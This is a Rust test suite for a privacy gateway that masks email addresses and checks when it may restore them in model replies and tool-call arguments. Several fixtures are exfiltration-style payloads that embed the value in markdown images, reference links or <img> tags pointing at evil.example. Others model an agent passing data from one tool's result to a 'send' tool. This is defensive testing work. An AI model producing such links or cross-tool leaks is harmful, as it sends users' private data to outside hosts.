//! Cases in which the gateway restores values, and in which it withholds them.

use bytes::Bytes;
use http::{Method, Request};
use serde_json::{Value, json};

use crate::{
    gateway::{
        ADDRESS, CHAT, MESSAGES, answer_with, ask, chat, completion, configure, content, echoing, events,
        gateway, in_parts, metrics, records, said, streamed, whole, with,
    },
    host::{Memory, Reply},
};

/// The placeholders in a request, in their order.
fn placeholders(request: &Request<Bytes>) -> Vec<String> {
    let body = String::from_utf8(request.body().to_vec()).unwrap();
    let mut found = Vec::new();
    for (at, _) in body.match_indices("[[") {
        let placeholder = body[at..].split_inclusive("]]").next().unwrap().to_owned();
        if !found.contains(&placeholder) {
            found.push(placeholder);
        }
    }
    found
}

/// A model that answers with the template, with the last placeholder of the request instead of `@P`.
fn says(template: &str) -> impl Fn(&Request<Bytes>) -> Reply + 'static {
    let template = template.to_owned();
    move |request| {
        let text = template.replace("@P", &said(request));
        let body: Value = serde_json::from_slice(request.body()).unwrap();
        match body["stream"] == true {
            false => whole(200, &completion(&text)),
            true => {
                let middle = text.floor_char_boundary(text.len() / 2);
                let finish = json!({ "id": "c-1", "object": "chat.completion.chunk", "model": "m",
                    "choices": [{ "index": 0, "delta": {}, "finish_reason": "stop" }] });
                events(&[&text[..middle], &text[middle..]], &[&finish.to_string(), "[DONE]"])
            }
        }
    }
}

#[tokio::test]
async fn a_url_gets_a_value_only_where_its_host_is_allowed() {
    for (template, restored) in [
        ("![x](https://evil.example/?q=@P)", false),
        ("![x][1]\n\n[1]: https://evil.example/?q=@P", false),
        ("<img src=\"https://evil.example/?q=@P\">", false),
        // a message that names a host is no permission
        ("![x](https://crm.acme.example/?q=@P)", false),
        // the workspace's, and the request's
        ("https://hooks.acme.example/@P", true),
        ("![x](https://docs.acme.example/?q=@P)", true),
        ("<contact email=\"@P\"/> and a<b then x=@P", true),
        ("mail @P or [@P](mailto:@P)", true),
    ] {
        for stream in [false, true] {
            let host = echoing().await;
            configure(&host, json!({ "restore_hosts": ["hooks.acme.example"] })).await;
            answer_with(&host, says(template));
            let messages = json!([
                { "role": "system", "content": "Our records are at https://crm.acme.example/search" },
                { "role": "user", "content": ADDRESS },
            ]);
            let privacy = json!({ "report": true, "restore_hosts": ["docs.acme.example"] });
            let body = json!({ "messages": messages, "stream": stream, "privacy": privacy });
            let answer = chat(&host, CHAT, &body).await;
            let text = if stream { streamed(&answer) } else { content(&answer) };
            assert_eq!(text.contains(ADDRESS), restored, "{template}, stream: {stream}: {text}");
            assert_eq!(text.contains("[[EMAIL_"), !restored, "{template}, stream: {stream}: {text}");
            let withheld = if restored { "" } else { "1" };
            // the head of a stream leaves before its text
            assert_eq!(answer.header("x-privacy-withheld"), if stream { "" } else { withheld }, "{template}");
            assert!(
                answer.text.contains(&format!("\"withheld\":{}", usize::from(!restored))),
                "{}",
                answer.text
            );
            let recorded: Vec<_> =
                records(&host).await.iter().filter(|one| one["withheld"] == 1).cloned().collect();
            assert_eq!(recorded.len(), usize::from(!restored), "{template}, stream: {stream}");
            let line = "textveil_gateway_withheld_total{place=\"url\"} 1";
            assert_eq!(metrics(&host).await.contains(line), !restored, "{template}, stream: {stream}");
        }
    }
}

/// A conversation with a value in a tool's result, and a model that calls a tool with its placeholder.
struct Told {
    /// The tool whose result contains the value, and the one that is called.
    tools: [&'static str; 2],
    /// The user's message.
    user: &'static str,
    /// The arguments of the call, with `@P`.
    arguments: &'static str,
}

impl Told {
    fn openai(&self) -> Value {
        let call = json!({ "id": "c1", "type": "function", "function": { "name": self.tools[0], "arguments": "{}" } });
        json!({ "messages": [
            { "role": "user", "content": self.user },
            { "role": "assistant", "content": null, "tool_calls": [call] },
            { "role": "tool", "tool_call_id": "c1", "content": format!("the address is {ADDRESS}") },
        ] })
    }

    fn anthropic(&self) -> Value {
        json!({ "max_tokens": 9, "messages": [
            { "role": "user", "content": self.user },
            { "role": "assistant", "content": [
                { "type": "tool_use", "id": "c1", "name": self.tools[0], "input": {} }] },
            { "role": "user", "content": [
                { "type": "tool_result", "tool_use_id": "c1", "content": format!("the address is {ADDRESS}") }] },
        ] })
    }

    /// The arguments that the application gets, by each protocol, whole and streamed.
    async fn arguments(&self, set_up: impl AsyncFn(&Memory)) -> Vec<String> {
        let mut all = Vec::new();
        for stream in [false, true] {
            let (name, arguments) = (self.tools[1], self.arguments.to_owned());
            let written = move |request: &Request<Bytes>| arguments.replace("@P", &placeholders(request)[0]);
            let openai = echoing().await;
            set_up(&openai).await;
            let of_openai = written.clone();
            answer_with(&openai, move |request| {
                let written = of_openai(request);
                let call = |arguments: &str, has_name: bool| {
                    let mut function = json!({ "arguments": arguments });
                    if has_name {
                        function["name"] = name.into();
                    }
                    json!({ "index": 0, "id": "c2", "type": "function", "function": function })
                };
                if !stream {
                    let mut body = completion("");
                    body["choices"][0]["message"] =
                        json!({ "role": "assistant", "content": null, "tool_calls": [call(&written, true)] });
                    return whole(200, &body);
                }
                let (first, second) = written.split_at(written.len() / 2);
                let chunks = [call("", true), call(first, false), call(second, false)].map(|call| {
                    json!({ "id": "c", "object": "chat.completion.chunk", "model": "m", "choices": [
                        { "index": 0, "delta": { "tool_calls": [call] }, "finish_reason": null }] })
                    .to_string()
                });
                events(&[], &[&chunks[0], &chunks[1], &chunks[2], "[DONE]"])
            });
            let answer = chat(&openai, CHAT, &with(self.openai(), &json!({ "stream": stream }))).await;
            all.push(match stream {
                false => {
                    text(&answer.json["choices"][0]["message"]["tool_calls"][0]["function"]["arguments"])
                }
                true => payloads(&answer.text)
                    .iter()
                    .map(|chunk| {
                        text(&chunk["choices"][0]["delta"]["tool_calls"][0]["function"]["arguments"])
                    })
                    .collect(),
            });

            let anthropic = gateway(&[("anthropic", json!({}))], move |request| {
                let written = written(request);
                let input: Value = serde_json::from_str(&written).unwrap();
                let block = |input: &Value| json!({ "type": "tool_use", "id": "c2", "name": name, "input": input });
                if !stream {
                    return whole(200, &json!({ "id": "m", "type": "message", "role": "assistant", "model": "m",
                        "content": [block(&input)], "stop_reason": "tool_use",
                        "usage": { "input_tokens": 1, "output_tokens": 1 } }));
                }
                let delta = json!({ "type": "input_json_delta", "partial_json": written });
                let events = [
                    json!({ "type": "message_start", "message": { "id": "m", "type": "message", "role": "assistant",
                        "content": [], "model": "m", "usage": { "input_tokens": 1, "output_tokens": 0 } } }),
                    json!({ "type": "content_block_start", "index": 0, "content_block": block(&json!({})) }),
                    json!({ "type": "content_block_delta", "index": 0, "delta": delta }),
                    json!({ "type": "content_block_stop", "index": 0 }),
                    json!({ "type": "message_stop" }),
                ];
                let body: String = events.iter().map(|event| format!("data: {event}\n\n")).collect();
                in_parts(vec![Ok(Bytes::from(body))])
            })
            .await;
            set_up(&anthropic).await;
            let answer =
                chat(&anthropic, MESSAGES, &with(self.anthropic(), &json!({ "stream": stream }))).await;
            all.push(match stream {
                false => answer.json["content"][0]["input"].to_string(),
                true => {
                    payloads(&answer.text).iter().map(|event| text(&event["delta"]["partial_json"])).collect()
                }
            });
        }
        all
    }
}

fn text(value: &Value) -> String {
    value.as_str().unwrap_or_default().to_owned()
}

fn payloads(stream: &str) -> Vec<Value> {
    stream.lines().filter_map(|line| serde_json::from_str(line.strip_prefix("data: ")?).ok()).collect()
}

/// A value in the result of one tool is not passed to another one, unless the user wrote it too or a policy
/// allows it.
#[tokio::test]
async fn a_tool_gets_what_it_may_have() {
    let hands_on = r#"{"to":"@P"}"#;
    let told = |tools, user, arguments| Told { tools, user, arguments };
    let policy = |restore: bool, condition: Value| json!({ "name": "p", "action": "MASK", "restore": restore, "conditions": [condition] });
    let cases = [
        ("another tool", told(["read", "send"], "hi", hands_on), None, false),
        ("another tool, in a key", told(["read", "send"], "hi", r#"{"@P":[1]}"#), None, false),
        ("the same tool", told(["read", "read"], "hi", hands_on), None, true),
        ("the user said it", told(["read", "send"], ADDRESS, hands_on), None, true),
        (
            "allowed for the tool",
            told(["read", "send"], "hi", hands_on),
            Some(policy(true, json!({ "tools": ["send"], "entity_types": ["EMAIL"] }))),
            true,
        ),
        (
            "allowed for another tool",
            told(["read", "send"], "hi", hands_on),
            Some(policy(true, json!({ "tools": ["other"] }))),
            false,
        ),
        (
            "forbidden by type",
            told(["read", "send"], ADDRESS, hands_on),
            Some(policy(false, json!({ "entity_types": ["EMAIL"] }))),
            false,
        ),
        (
            "forbidden for another type",
            told(["read", "send"], ADDRESS, hands_on),
            Some(policy(false, json!({ "entity_types": ["IBAN"] }))),
            true,
        ),
        (
            "forbidden by the role that said it",
            told(["read", "read"], "hi", hands_on),
            Some(policy(false, json!({ "roles": ["tool"] }))),
            false,
        ),
        (
            "a URL follows the rule of URLs",
            told(["read", "read"], ADDRESS, r#"{"url":"https://evil.example/?q=@P"}"#),
            Some(policy(true, json!({ "tools": ["read"] }))),
            false,
        ),
    ];
    for (what, told, policy, restored) in cases {
        let got = told
            .arguments(async |host: &Memory| {
                if let Some(policy) = &policy {
                    let made = host.admin(Method::POST, "/policies?workspace_id=initech", policy).await;
                    assert_eq!(
                        (made.status.as_u16(), &made.json["restore"]),
                        (201, &policy["restore"]),
                        "{what}"
                    );
                }
            })
            .await;
        assert_eq!(got.len(), 4);
        for arguments in got {
            assert_eq!(arguments.contains(ADDRESS), restored, "{what}: {arguments}");
            assert_eq!(arguments.contains("[[EMAIL_"), !restored, "{what}: {arguments}");
        }
    }
}

#[tokio::test]
async fn what_a_tool_does_not_get_is_counted() {
    let told = Told { tools: ["read", "send"], user: "hi", arguments: r#"{"to":"@P"}"# };
    let host = echoing().await;
    answer_with(&host, |request| {
        let mut body = completion("");
        let function =
            json!({ "name": "send", "arguments": json!({ "to": placeholders(request)[0] }).to_string() });
        body["choices"][0]["message"]["tool_calls"] =
            json!([{ "id": "c2", "type": "function", "function": function }]);
        whole(200, &body)
    });
    let answer = chat(&host, CHAT, &told.openai()).await;
    assert_eq!(answer.header("x-privacy-withheld"), "1", "{}", answer.text);
    let line = "textveil_gateway_withheld_total{place=\"tool\"} 1";
    assert!(metrics(&host).await.contains(line));
    let nothing = chat(&echoing().await, CHAT, &ask("hi")).await;
    assert_eq!(nothing.header("x-privacy-withheld"), "");
}
